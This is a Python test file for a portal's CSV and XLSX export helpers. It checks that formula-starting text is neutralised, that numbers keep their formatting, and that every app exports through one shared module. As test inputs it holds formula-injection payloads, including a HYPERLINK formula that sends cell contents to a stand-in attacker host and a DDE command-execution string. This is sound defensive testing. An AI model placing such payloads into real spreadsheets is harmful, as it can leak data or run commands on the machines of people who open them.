"""Spreadsheet exports: text that could start a formula is neutralised, numbers stay
numbers, and every export of the portal writes its cells through ecosysteem/exporteren.py."""

from __future__ import annotations

import ast
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ecosysteem.exporteren import csv_antwoord, csv_cel, neutraliseer, xlsx_antwoord

WORTEL = Path(__file__).resolve().parent.parent.parent
APPS = ("ecosysteem", "partners", "regios", "kompas", "subsidie")
HYPERLINK = '=HYPERLINK("http://aanvaller.example/?lek="&F3,"Klik")'


@pytest.mark.parametrize(
    "tekst",
    [
        HYPERLINK,
        "+31 50 123 4567",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_text_that_could_start_a_formula_gets_an_apostrophe(tekst):
    assert neutraliseer(tekst) == "'" + tekst


@pytest.mark.parametrize("tekst", ["Techregio Noord", "", "'s-Hertogenbosch", "50% = half", "A-B"])
def test_other_text_is_left_alone(tekst):
    assert neutraliseer(tekst) == tekst


def test_numbers_in_csv_keep_their_sign_and_decimal_comma():
    assert csv_cel(Decimal("-1250.5")) == "-1250,50"
    assert csv_cel(-3) == "-3"
    assert csv_cel("-3") == "'-3"  # text typed by someone is text
    assert csv_cel(None) == ""
    assert csv_cel(datetime.date(2026, 10, 1)) == "2026-10-01"


def lees_csv(antwoord) -> list[list[str]]:
    return list(csv.reader(io.StringIO(antwoord.content.decode("utf-8-sig")), delimiter=";"))


def test_csv_export_neutralises_text_and_keeps_numbers():
    antwoord = csv_antwoord(
        kolommen=["Naam", "Saldo"],
        rijen=[[HYPERLINK, Decimal("-12.50")], ["=kop", 7]],
        bestandsnaam="proef.csv",
    )
    assert lees_csv(antwoord) == [
        ["Naam", "Saldo"],
        ["'" + HYPERLINK, "-12,50"],
        ["'=kop", "7"],
    ]
    assert antwoord["Content-Disposition"] == 'attachment; filename="proef.csv"'


def test_xlsx_export_writes_text_as_text_and_negative_numbers_as_numbers():
    antwoord = xlsx_antwoord(
        kolommen=["=Naam", "Saldo", "Aantal"],
        rijen=[[HYPERLINK, Decimal("-12.50"), -4], ["@kop", Decimal("3.00"), 0]],
        bestandsnaam="proef.xlsx",
        bladnaam="Blad met een heel erg lange naam die niet past",
        bedragkolommen=[1],
    )
    werkboek = load_workbook(io.BytesIO(antwoord.content))
    blad = werkboek.active
    assert blad.title == "Blad met een heel erg lange naa"
    assert blad["A1"].value == "'=Naam"
    assert (blad["A2"].value, blad["A2"].data_type) == ("'" + HYPERLINK, "s")
    assert blad["A3"].value == "'@kop"
    # No formula anywhere in the sheet.
    assert all(c.data_type != "f" for rij in blad.iter_rows() for c in rij)
    assert blad["B2"].data_type == "n" and Decimal(str(blad["B2"].value)) == Decimal("-12.5")
    assert blad["B2"].number_format == '"€" #,##0.00'
    assert (blad["C2"].value, blad["C2"].data_type) == (-4, "n")
    assert blad.freeze_panes == "A2"


def schrijvers_van_spreadsheets(pad: Path) -> list[str]:
    """Where a module writes CSV or XLSX itself: ``csv.writer``/``DictWriter`` or openpyxl."""
    gevonden = []
    for knoop in ast.walk(ast.parse(pad.read_text(encoding="utf-8"))):
        if isinstance(knoop, ast.Attribute) and knoop.attr in {"writer", "DictWriter"}:
            if isinstance(knoop.value, ast.Name) and knoop.value.id == "csv":
                gevonden.append(f"{pad.name}:{knoop.lineno} csv.{knoop.attr}")
        elif isinstance(knoop, ast.Import | ast.ImportFrom):
            namen = [knoop.module or ""] if isinstance(knoop, ast.ImportFrom) else []
            namen += [a.name for a in getattr(knoop, "names", [])]
            if any(n.split(".")[0] in {"openpyxl", "xlsxwriter"} for n in namen):
                gevonden.append(f"{pad.name}:{knoop.lineno} import {namen[0]}")
    return gevonden


def test_the_scan_finds_a_csv_writer_and_an_openpyxl_import(tmp_path):
    bron = tmp_path / "export.py"
    bron.write_text("import csv\nfrom openpyxl import Workbook\nw = csv.writer(f)\n")
    assert schrijvers_van_spreadsheets(bron) == [
        "export.py:2 import openpyxl",
        "export.py:3 csv.writer",
    ]


def test_every_export_writes_through_the_shared_helper():
    gevonden = []
    for app in APPS:
        for pad in sorted((WORTEL / app).rglob("*.py")):
            if "migrations" in pad.parts or pad == WORTEL / "ecosysteem" / "exporteren.py":
                continue
            gevonden += schrijvers_van_spreadsheets(pad)
    assert not gevonden, "Exporteer via ecosysteem/exporteren.py:\n" + "\n".join(gevonden)
